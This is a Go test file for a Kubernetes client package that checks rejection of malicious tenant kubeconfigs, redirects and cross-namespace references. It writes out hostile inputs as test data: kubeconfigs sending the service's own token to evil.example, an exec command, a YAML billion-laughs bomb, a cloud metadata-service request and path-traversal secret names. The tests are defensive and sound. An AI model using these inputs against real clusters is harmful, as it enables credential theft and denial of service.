package kube

import (
	"errors"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"

	corev1 "k8s.io/api/core/v1"
	"k8s.io/client-go/rest"

	"github.com/vitistack/stack/apis/kubeconfig"
	"github.com/vitistack/stack/events/outbound"
)

// kubeconfigOf returns a kubeconfig of a user with these credentials.
func kubeconfigOf(server, cluster, user string) string {
	return "apiVersion: v1\nkind: Config\ncurrent-context: x\n" +
		"clusters: [{name: c, cluster: {server: '" + server + "'" + cluster + "}}]\n" +
		"contexts: [{name: x, context: {cluster: c, user: u}}]\n" +
		"users: [{name: u, user: {" + user + "}}]\n"
}

// TestMaliciousKubeconfig has tenants write kubeconfigs that make the function run a program, or read
// a file and send its token to their server.
func TestMaliciousKubeconfig(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	token, ran := filepath.Join(dir, "token"), filepath.Join(dir, "ran")
	if err := os.WriteFile(token, []byte("the function's own"), 0o600); err != nil {
		t.Fatal(err)
	}
	cases := map[string]struct {
		reason, kubeconfig string
		want               error
	}{
		"Good":    {reason: "everything is in the kubeconfig", kubeconfig: kubeconfigOf("https://10.0.0.5:6443", "", "token: t")},
		"Token":   {reason: "a path to the function's token", kubeconfig: kubeconfigOf("https://evil.example", "", "tokenFile: "+token), want: kubeconfig.ErrReachesHere},
		"Both":    {reason: "a token in addition to a path", kubeconfig: kubeconfigOf("https://evil.example", "", "token: t, tokenFile: "+token), want: kubeconfig.ErrReachesHere},
		"Endless": {reason: "a file without an end", kubeconfig: kubeconfigOf("https://evil.example", "", "tokenFile: /dev/zero"), want: kubeconfig.ErrReachesHere},
		"Program": {reason: "a program", kubeconfig: kubeconfigOf("https://evil.example", "", "exec: {apiVersion: client.authentication.k8s.io/v1, command: touch, args: ["+ran+"], interactiveMode: Never}"), want: kubeconfig.ErrReachesHere},
		"Plugin":  {reason: "a plug-in", kubeconfig: kubeconfigOf("https://evil.example", "", "auth-provider: {name: oidc}"), want: kubeconfig.ErrReachesHere},
		"Key":     {reason: "a path to the function's key", kubeconfig: kubeconfigOf("https://evil.example", "", "client-certificate: /etc/tls.crt, client-key: /etc/tls.key"), want: kubeconfig.ErrReachesHere},
		"CA":      {reason: "a file again", kubeconfig: kubeconfigOf("https://evil.example", ", certificate-authority: "+token, "token: t"), want: kubeconfig.ErrReachesHere},
		"Another": {reason: "the path belongs to another user of the kubeconfig", kubeconfig: strings.Replace(kubeconfigOf("https://a", "", "token: t"), "users: [", "users: [{name: v, user: {tokenFile: /x}}, ", 1), want: kubeconfig.ErrReachesHere},
		"Null":    {reason: "a user is null", kubeconfig: "users: [{name: u, user: null}]\nclusters: [null]", want: kubeconfig.ErrInvalid},
		"NoYAML":  {reason: "no document", kubeconfig: "{", want: kubeconfig.ErrInvalid},
		"Empty":   {reason: "no context", kubeconfig: "", want: kubeconfig.ErrInvalid},
		"Bomb":    {reason: "a billion laughs", kubeconfig: bomb(), want: kubeconfig.ErrInvalid},
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			config, err := ReadKubeconfig([]byte(tc.kubeconfig))
			if !errors.Is(err, tc.want) || (err == nil) != (config != nil) {
				t.Errorf("%s: got %v, want %v", tc.reason, err, tc.want)
			}
		})
	}
	if _, err := os.Stat(ran); err == nil {
		t.Error("a program was run")
	}
}

// bomb returns a YAML document of some hundred bytes that expands to ten billion values.
func bomb() string {
	doc := "a: &a [x,x,x,x,x,x,x,x,x,x]\n"
	for c := 'b'; c <= 'j'; c++ {
		doc += string(c) + ": &" + string(c) + " [" + strings.Repeat("*"+string(c-1)+",", 10) + "]\n"
	}
	return doc
}

// TestRemoteAPIServer has a remote API server redirect the client to another server. The client sends
// nothing there, and above all no token.
func TestRemoteAPIServer(t *testing.T) {
	t.Parallel()
	followed := false
	second := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { followed = true }))
	t.Cleanup(second.Close)
	first := httptest.NewServer(http.RedirectHandler(second.URL, http.StatusTemporaryRedirect))
	t.Cleanup(first.Close)
	client, err := HTTPClientFor(&rest.Config{Host: first.URL, BearerToken: "t"})
	if err != nil {
		t.Fatal(err)
	}
	get := func(url string) (*http.Response, error) {
		req, err := http.NewRequestWithContext(t.Context(), http.MethodGet, url, nil)
		if err != nil {
			t.Fatal(err)
		}
		return client.Do(req)
	}
	res, err := get(first.URL)
	if err != nil || res.StatusCode != http.StatusTemporaryRedirect || followed {
		t.Errorf("redirected: followed %t, %v", followed, err)
	}
	if err == nil {
		_ = res.Body.Close()
	}
	var denied *outbound.Denied
	res, err = get("http://169.254.169.254/api/v1/nodes")
	if err == nil {
		_ = res.Body.Close()
	}
	if !errors.As(err, &denied) {
		t.Errorf("the cloud's metadata service: %v", err)
	}
}

// TestReferencesStayInTheirNamespace has tenants and forged events refer to other namespaces by a
// path. The API server gets no request.
func TestReferencesStayInTheirNamespace(t *testing.T) {
	t.Parallel()
	var asked []string
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		asked = append(asked, r.URL.Path)
		w.WriteHeader(http.StatusInternalServerError)
	}))
	t.Cleanup(server.Close)
	client, err := New(&rest.Config{Host: server.URL}, "test", Kinds(corev1.SchemeGroupVersion, &corev1.Secret{}))
	if err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct{ namespace, name string }{
		{"team-a", "../../team-b/secrets/keys"}, {"team-a", ".."}, {"team-a", ""}, {"team-a", "a%2fb"}, {"team-a/secrets/x/../../../team-b", "keys"}, {"..", "keys"},
	} {
		if err := client.Get(t.Context(), tc.namespace, tc.name, &corev1.Secret{}); !NotFound(err) {
			t.Errorf("%s in %s: %v", tc.name, tc.namespace, err)
		}
	}
	if len(asked) > 0 {
		t.Errorf("asked for %v", asked)
	}
}

func FuzzReadKubeconfig(f *testing.F) {
	f.Add([]byte(kubeconfigOf("https://10.0.0.5:6443", "", "token: t")))
	f.Add([]byte(kubeconfigOf("https://a", ", certificate-authority-data: AA==", "client-certificate-data: AA==, client-key-data: AA==")))
	f.Add([]byte(`{"current-context":"x","users":[{"name":"u","user":{"exec":{"command":"id"}}}]}`))
	f.Add([]byte(bomb()))
	f.Fuzz(func(t *testing.T, data []byte) {
		config, err := ReadKubeconfig(data)
		if err != nil {
			return
		}
		if c := config.TLSClientConfig; config.ExecProvider != nil || config.AuthProvider != nil || config.BearerTokenFile != "" || c.CAFile+c.CertFile+c.KeyFile != "" {
			t.Errorf("%q is accepted although it refers to a program or a file", data)
		}
	})
}
